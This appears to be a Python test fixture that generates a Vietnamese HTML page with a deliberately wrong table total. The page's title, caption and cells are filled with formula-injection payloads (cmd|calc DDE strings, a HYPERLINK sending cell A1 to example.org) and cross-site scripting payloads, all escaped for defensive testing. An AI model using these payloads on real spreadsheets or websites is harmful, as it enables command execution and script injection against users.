"""A web page whose title, caption and cells are formulas and markup, and whose total does not hold."""

from __future__ import annotations

from html import escape

TEXTS = (
    '=HYPERLINK("http://example.org/?"&A1,"Hà Nội")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    '"onload="alert(1)',
    "<img src=x onerror=alert(1)>",
    "\uff1d1+1",
    "Hà Nội</td></tr></table><script>alert(2)</script>",
    "</pre></style><svg onload=alert(3)>",
)
TITLE = "=1+1 <script>alert('tên')</script>"
CAPTION = '-1+1 <b onclick="alert(4)">Số tổ công nghệ số</b>:'


def page(extra: int = 0) -> bytes:
    """The page; its first figure is so much larger than in its first version.

    >>> b"<script" in page()
    False
    """
    figures = [100 + 7 * number for number in range(len(TEXTS))]
    total = sum(figures) + 9
    figures[0] += extra
    rows = "".join(
        f"<tr><td>{number}</td><td>{escape(text)}</td><td>{figure}</td><td>-{number}</td></tr>"
        for number, (text, figure) in enumerate(zip(TEXTS, figures, strict=True), start=1)
    )
    prose = "<p>Tính đến ngày 30/9/2022, cả nước có 61/63 địa phương đã thành lập Tổ công nghệ số cộng đồng.</p>" * 3
    return (
        f"<!doctype html><html lang=vi><head><title>{escape(TITLE)}</title></head><body><h1>{escape(TITLE)}</h1>{prose}"
        f"<p>{escape(CAPTION)}</p><table border=1><tr><th>TT</th><th>Địa phương</th><th>{escape(TEXTS[0])}</th>"
        f"<th>Tăng giảm</th></tr>{rows}<tr><td></td><td>Tổng cộng</td><td>{total}</td><td></td></tr></table>"
        "</body></html>"
    ).encode()
